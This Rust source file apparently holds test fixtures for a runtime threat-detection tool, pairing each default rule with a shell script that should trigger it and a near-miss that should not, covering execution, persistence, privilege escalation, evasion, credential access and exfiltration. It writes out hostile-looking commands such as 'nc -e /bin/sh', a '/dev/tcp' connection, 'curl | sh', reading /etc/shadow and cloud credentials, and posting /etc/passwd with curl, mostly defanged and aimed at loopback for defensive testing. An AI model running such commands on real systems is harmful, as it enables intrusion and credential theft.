//! For each default rule, the deed that it is about and the near miss that it is not about.
//!
//! Both are shell scripts. On the host they run in a mount namespace in which changes to the
//! system's folders go to an overlay, so that nothing stays. `$D` is a folder of their own;
//! `as PROGRAM NAME` puts a copy of a program there under another name.

/// Where a deed is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Place {
    /// On the host.
    Host,
    /// In a container without privileges.
    Container,
    /// In containers of their own, started with these options for the deed and the near miss.
    Started(&'static [&'static str], &'static [&'static str]),
}

/// One rule's pair.
pub(crate) struct Deed {
    pub(crate) rule: &'static str,
    pub(crate) place: Place,
    pub(crate) deed: &'static str,
    pub(crate) near: &'static str,
}

const fn host(rule: &'static str, deed: &'static str, near: &'static str) -> Deed {
    Deed {
        rule,
        place: Place::Host,
        deed,
        near,
    }
}

const fn inside(rule: &'static str, deed: &'static str, near: &'static str) -> Deed {
    Deed {
        rule,
        place: Place::Container,
        deed,
        near,
    }
}

const fn started(
    rule: &'static str,
    deed: &'static [&'static str],
    near: &'static [&'static str],
) -> Deed {
    Deed {
        rule,
        place: Place::Started(deed, near),
        deed: "exec true",
        near: "exec true",
    }
}

/// Numbers of system calls are those of x86-64.
pub(crate) const DEEDS: &[Deed] = &[
    // Execution.
    started("Interactive shell in container", &["-t"], &[]),
    host(
        "Shell started by a network service",
        r#"as perl nginx; "$D/nginx" -e 'system("/bin/sh", "-c", ":")'"#,
        r#"as perl myapp; "$D/myapp" -e 'system("/bin/sh", "-c", ":")'"#,
    ),
    host(
        "Database server started a program",
        r#"as perl mysqld; "$D/mysqld" -e 'system("/bin/true")'"#,
        r#"as perl myapp; "$D/myapp" -e 'system("/bin/true")'"#,
    ),
    host(
        "Reconnaissance by a web server",
        r#"as perl apache2; "$D/apache2" -e 'system("/usr/bin/id >/dev/null")'"#,
        r#"as perl apachectl; "$D/apachectl" -e 'system("/usr/bin/id >/dev/null")'"#,
    ),
    host(
        "Program run from memory",
        r#"perl -e 'my $name = "x"; my $fd = syscall(319, $name, 0); open(my $out, ">&=", $fd);
            open(my $in, "<", "/bin/true"); local $/; syswrite($out, <$in>);
            exec {"/proc/self/fd/$fd"} "x"'"#,
        r#"as true plain; "$D/plain""#,
    ),
    inside(
        "Program run that is not in the container image",
        r#"as true dropped; "$D/dropped""#,
        "/bin/true",
    ),
    host(
        "Program run from shared memory",
        "cp /bin/true /dev/shm/deed; /dev/shm/deed",
        r#"as true deed; "$D/deed""#,
    ),
    host(
        "Hidden file run as a program",
        r#"as true .deed; "$D/.deed""#,
        r#"mkdir "$D/.hidden"; cp /bin/true "$D/.hidden/near"; "$D/.hidden/near""#,
    ),
    host(
        "Netcat hands over a program",
        r#"as true nc; "$D/nc" -e /bin/sh 127.0.0.1 9"#,
        r#"as true nc; "$D/nc" -l -p 9"#,
    ),
    host(
        "Shell opens a network connection by itself",
        "sh -c 'true || exec 3<>/dev/tcp/127.0.0.1/9'",
        "sh -c 'true || exec 3<>/dev/tty'",
    ),
    host(
        "Encoded script passed to a shell",
        "sh -c 'echo dHJ1ZQ== | base64 -d | sh'",
        "sh -c 'echo dHJ1ZQ== | base64 -d' >/dev/null",
    ),
    host(
        "Downloaded script passed to a shell",
        "sh -c 'true || curl http://127.0.0.1/x | sh'",
        "sh -c 'true || curl -o x http://127.0.0.1/x'",
    ),
    inside(
        "Container or cluster client in a container",
        r#"as true kubectl; "$D/kubectl" get pods"#,
        r#"as true kubectx; "$D/kubectx" get pods"#,
    ),
    host(
        "Standard stream redirected to a network connection",
        "perl -e 'socket(S, 2, 2, 0); syscall(33, fileno(S), 0)'",
        "perl -e 'socket(S, 2, 2, 0); syscall(33, fileno(S), 9)'",
    ),
    // Persistence.
    host(
        "Shell start-up file changed",
        r#": >> "$D/.bashrc""#,
        r#": >> "$D/bashrc""#,
    ),
    host(
        "Cron job changed",
        "mkdir -p /etc/cron.d; : > /etc/cron.d/deed",
        "mkdir -p /etc/cron.d; : > /etc/near-cron",
    ),
    host(
        "Crontab program run",
        r#"as true crontab; "$D/crontab" table"#,
        r#"as true crontab; "$D/crontab" -l"#,
    ),
    host(
        "Systemd unit changed",
        "mkdir -p /etc/systemd/system; : > /etc/systemd/system/deed.service",
        "mkdir -p /etc/systemd; : > /etc/systemd/near",
    ),
    host(
        "SSH authorized keys changed",
        r#"mkdir "$D/.ssh"; : >> "$D/.ssh/authorized_keys""#,
        r#"mkdir "$D/.ssh"; : >> "$D/.ssh/known_hosts""#,
    ),
    host(
        "Dynamic linker preload list changed",
        ": >> /etc/ld.so.preload",
        ": >> /etc/ld.so.preloaded",
    ),
    host(
        "Authentication modules changed",
        "mkdir -p /etc/pam.d; : > /etc/pam.d/deed",
        ": > /etc/pam.d.near",
    ),
    host(
        "Account management program run",
        r#"as true useradd; "$D/useradd" somebody"#,
        r#"as true useradd; as perl dpkg; "$D/dpkg" -e 'system("$ENV{D}/useradd", "somebody")'"#,
    ),
    host(
        "Account database changed",
        ": >> /etc/shadow",
        r#"as perl usermod; "$D/usermod" -e 'open(F, ">>", "/etc/shadow")'"#,
    ),
    host(
        "Program folder changed",
        ": > /usr/bin/deed",
        ": > /usr/local/bin/near",
    ),
    host(
        "Kernel module loaded by an unusual program",
        r#"perl -e 'my ($image, $args) = ("", ""); syscall(175, $image, 0, $args)'"#,
        r#"as perl modprobe
           "$D/modprobe" -e 'my ($image, $args) = ("", ""); syscall(175, $image, 0, $args)'"#,
    ),
    host(
        "Kernel module inserted from a file",
        r#"as true insmod; "$D/insmod" deed.ko"#,
        r#"as true insmod; "$D/insmod" --version"#,
    ),
    inside(
        "Package manager in container",
        r#"as true apk; "$D/apk" add x"#,
        r#"as true apk-like; "$D/apk-like" add x"#,
    ),
    // Privilege escalation.
    host(
        "Set-user-ID bit set",
        r#"as true deed; chmod u+s "$D/deed""#,
        r#"as true near; chmod 755 "$D/near""#,
    ),
    host(
        "Unprivileged process asks to become root",
        "setpriv --reuid 65534 --clear-groups perl -e 'syscall(105, 0)'",
        "setpriv --reuid 65534 --clear-groups perl -e 'syscall(105, 65533)'",
    ),
    inside(
        "Release agent written in container",
        r#": > "$D/release_agent""#,
        r#": > "$D/release_agent.txt""#,
    ),
    host(
        "Kernel helper path opened for writing",
        r#"perl -e 'open(F, "+<", "/proc/sys/kernel/core_pattern")'"#,
        r#"perl -e 'open(F, "<", "/proc/sys/kernel/core_pattern")'"#,
    ),
    started("Privileged container started", &["--privileged"], &[]),
    started(
        "Container started with a sensitive part of the host",
        &["-v", "/etc:/host/etc:ro"],
        &["-v", "/usr/share:/host/share:ro"],
    ),
    started(
        "Container started among the processes of the host",
        &["--pid", "host"],
        &[],
    ),
    host(
        "Namespace entered by an unusual program",
        "nsenter --uts --target $$ true",
        r#"as nsenter runc; "$D/runc" --uts --target $$ true"#,
    ),
    inside(
        "User namespace made in container",
        "perl -e 'syscall(272, 0x10000000)'",
        "perl -e 'syscall(272, 0x04000000)'",
    ),
    inside(
        "File system mounted in container",
        r#"perl -e 'my ($dev, $dir, $kind) = ("none", "/tmp", "tmpfs");
            syscall(165, $dev, $dir, $kind, 0, 0)'"#,
        r#"perl -e 'my $dir = "/tmp"; syscall(166, $dir, 0)'"#,
    ),
    // Defense evasion.
    host(
        "Process taken over with ptrace",
        r#"perl -e 'my $pid = fork; sleep 60 unless $pid; syscall(101, 16, $pid, 0, 0);
            kill 9, $pid; waitpid $pid, 0'"#,
        r#"as perl strace
           "$D/strace" -e 'my $pid = fork; sleep 60 unless $pid; syscall(101, 16, $pid, 0, 0);
            kill 9, $pid; waitpid $pid, 0'"#,
    ),
    host(
        "Process traces itself",
        "perl -e 'syscall(101, 0, 0, 0, 0)'",
        "as perl gdb; \"$D/gdb\" -e 'syscall(101, 0, 0, 0, 0)'",
    ),
    host(
        "Memory of another process written",
        r#"perl -e 'open(F, "+<", "/proc/$$/mem")'"#,
        r#"perl -e 'open(F, "<", "/proc/$$/mem")'"#,
    ),
    host(
        "System log emptied or removed",
        ": > /var/log/auth.log",
        ": >> /var/log/auth.log",
    ),
    host(
        "Shell history emptied or removed",
        r#": > "$D/.bash_history"; cp /dev/null "$D/.bash_history""#,
        r#": > "$D/.bash_history"; cp /dev/null "$D/.bash_geography""#,
    ),
    host(
        "Symbolic link to a sensitive file",
        r#"ln -s /etc/shadow "$D/deed""#,
        r#"ln -s /etc/hostname "$D/near""#,
    ),
    host(
        "Hard link to a sensitive file",
        "ln /etc/shadow /etc/deed",
        "ln /etc/services /etc/near || ln /etc/fstab /etc/near",
    ),
    host(
        "Security service switched off",
        r#"as true iptables; "$D/iptables" -F"#,
        r#"as true iptables; "$D/iptables" -F DOCKER"#,
    ),
    host(
        "File times forged",
        "touch -r /bin/ls /usr/bin/deed",
        r#": > "$D/old"; touch -r "$D/old" "$D/near""#,
    ),
    host(
        "Files made immutable or mutable",
        r#"as true chattr; "$D/chattr" +i file"#,
        r#"as true chattr; "$D/chattr" +d file"#,
    ),
    host(
        "BPF program loaded by an unusual program",
        r#"perl -e 'my $attr = "\0" x 128; syscall(321, 5, $attr, 128)'"#,
        r#"perl -e 'my $attr = "\0" x 128; syscall(321, 0, $attr, 128)'"#,
    ),
    host(
        "Page faults handled by an unprivileged process",
        "setpriv --reuid 65534 --clear-groups perl -e 'syscall(323, 0)'",
        "perl -e 'syscall(323, 0)'",
    ),
    // Credential access.
    host(
        "Sensitive file read by an unusual program",
        "cat /etc/shadow >/dev/null",
        "cat /etc/passwd >/dev/null",
    ),
    host(
        "Path traversal to a sensitive file",
        "cat /tmp/../etc/passwd >/dev/null",
        "cat /etc/passwd >/dev/null",
    ),
    host(
        "SSH private key read",
        r#"mkdir "$D/.ssh"; : > "$D/.ssh/id_rsa"; cat "$D/.ssh/id_rsa""#,
        r#"mkdir "$D/.ssh"; : > "$D/.ssh/id_rsa.pub"; cat "$D/.ssh/id_rsa.pub""#,
    ),
    host(
        "Search for keys or passwords",
        r#"find "$D" -name id_rsa"#,
        r#"find "$D" -name notes"#,
    ),
    host(
        "Cloud credentials read",
        r#"mkdir "$D/.aws"; : > "$D/.aws/credentials"; cat "$D/.aws/credentials""#,
        r#"mkdir "$D/.aws"; : > "$D/.aws/config"; cat "$D/.aws/config""#,
    ),
    inside(
        "Service account token read with a file tool",
        "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount
         cd /var/run/secrets/kubernetes.io/serviceaccount; : > token; cat token",
        "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount
         cd /var/run/secrets/kubernetes.io/serviceaccount; : > token
         perl -e 'open(F, \"<\", \"token\")'",
    ),
    inside(
        "Environment of another process read in container",
        "cat /proc/1/environ",
        "cat /proc/self/environ",
    ),
    host(
        "Cloud metadata service contacted",
        // A network of its own in which the address is this machine's: ioctls bring up its
        // loopback and give it the address.
        r#"exec unshare -n perl -e 'socket(S, 2, 2, 0); my $ip = 0xa9fea9fe;
            my $up = pack("a16 s x22", "lo", 1); ioctl(S, 0x8914, $up) or die;
            my $address = pack("a16 S n N x16", "lo", 2, 0, $ip);
            ioctl(S, 0x8916, $address) or die;
            connect(S, pack("S n N x8", 2, 80, $ip)) or die'"#,
        r#"exec unshare -n perl -e 'socket(S, 2, 2, 0); my $ip = 0xa9fea9fd;
            my $up = pack("a16 s x22", "lo", 1); ioctl(S, 0x8914, $up) or die;
            my $address = pack("a16 S n N x16", "lo", 2, 0, $ip);
            ioctl(S, 0x8916, $address) or die;
            connect(S, pack("S n N x8", 2, 80, $ip)) or die'"#,
    ),
    // Discovery, lateral movement, command and control.
    inside(
        "Network tool in container",
        r#"as true nmap; "$D/nmap" 127.0.0.1"#,
        r#"as true nmapper; "$D/nmapper" 127.0.0.1"#,
    ),
    inside(
        "Packet socket opened in container",
        "perl -e 'socket(S, 17, 3, 0)'",
        "perl -e 'socket(S, 2, 2, 0)'",
    ),
    inside(
        "SSH server in container",
        r#"as true sshd; "$D/sshd" -D"#,
        r#"as true sshd-keygen; "$D/sshd-keygen""#,
    ),
    inside(
        "Remote copy tool in container",
        r#"as true scp; "$D/scp" a b:c"#,
        r#"as true scpd; "$D/scpd" a b:c"#,
    ),
    host(
        "File tool makes a network connection",
        r#"as perl ls
           "$D/ls" -e 'socket(S, 2, 2, 0); connect(S, pack("S n N x8", 2, 9, 0x7f000001)) or die'"#,
        r#"as perl list
           "$D/list" -e 'socket(S, 2, 2, 0); connect(S, pack("S n N x8", 2, 9, 0x7f000001)) or die'"#,
    ),
    // Collection, exfiltration, impact.
    host(
        "Sensitive folder archived",
        r#"mkdir "$D/.ssh"; tar -cf "$D/deed.tar" -C / "${D#/}/.ssh""#,
        r#"mkdir "$D/docs"; tar -cf "$D/near.tar" -C / "${D#/}/docs""#,
    ),
    host(
        "Sensitive file sent with a download tool",
        r#"as true curl; "$D/curl" -d @/etc/passwd http://127.0.0.1"#,
        r#"as true curl; "$D/curl" -d @notes http://127.0.0.1"#,
    ),
    host(
        "Crypto miner run",
        r#"as true worker; "$D/worker" -o stratum+tcp://127.0.0.1:1"#,
        r#"as true worker; "$D/worker" -o tcp://127.0.0.1:1"#,
    ),
    host(
        "Data destroyed",
        r#"as true shred; "$D/shred" file"#,
        r#"as true shred; "$D/shred" --help"#,
    ),
    host(
        "Name resolution changed",
        ": >> /etc/hosts",
        ": >> /etc/hosts.near",
    ),
];

/// What must stay silent altogether: the everyday work of a machine.
pub(crate) const EVERYDAY: &[(&str, &str)] = &[
    (
        "a compile",
        r#"printf 'int main(void) { return 0; }\n' > "$D/a.c"
           printf 'all: a\na: a.c\n\tcc -o a a.c\n' > "$D/Makefile"
           make -s -C "$D"; "$D/a"; strip "$D/a"; "$D/a""#,
    ),
    (
        "a package install",
        r#"cd "$D"; mkdir -p p/DEBIAN p/usr/bin p/etc/cron.d p/etc/profile.d p/lib/systemd/system
           printf 'Package: lanner-deed\nVersion: 1\nArchitecture: all\nMaintainer: nobody\nDescription: none\n' > p/DEBIAN/control
           printf '#!/bin/sh\nset -e\ngrep -q root /etc/shadow\ngroupadd --system lanner-deed\nchmod u+s /usr/bin/lanner-deed\n' > p/DEBIAN/postinst
           chmod 755 p/DEBIAN/postinst; cp /bin/true p/usr/bin/lanner-deed
           printf '# nothing\n' > p/etc/cron.d/lanner-deed
           printf '# nothing\n' > p/etc/profile.d/lanner-deed.sh
           printf '[Unit]\n' > p/lib/systemd/system/lanner-deed.service
           dpkg-deb --root-owner-group -b p p.deb >/dev/null; dpkg -i p.deb >/dev/null
           dpkg -P lanner-deed >/dev/null"#,
    ),
    (
        "an idle shell",
        "ls -l /etc >/dev/null; cat /etc/hostname >/dev/null; id >/dev/null",
    ),
];
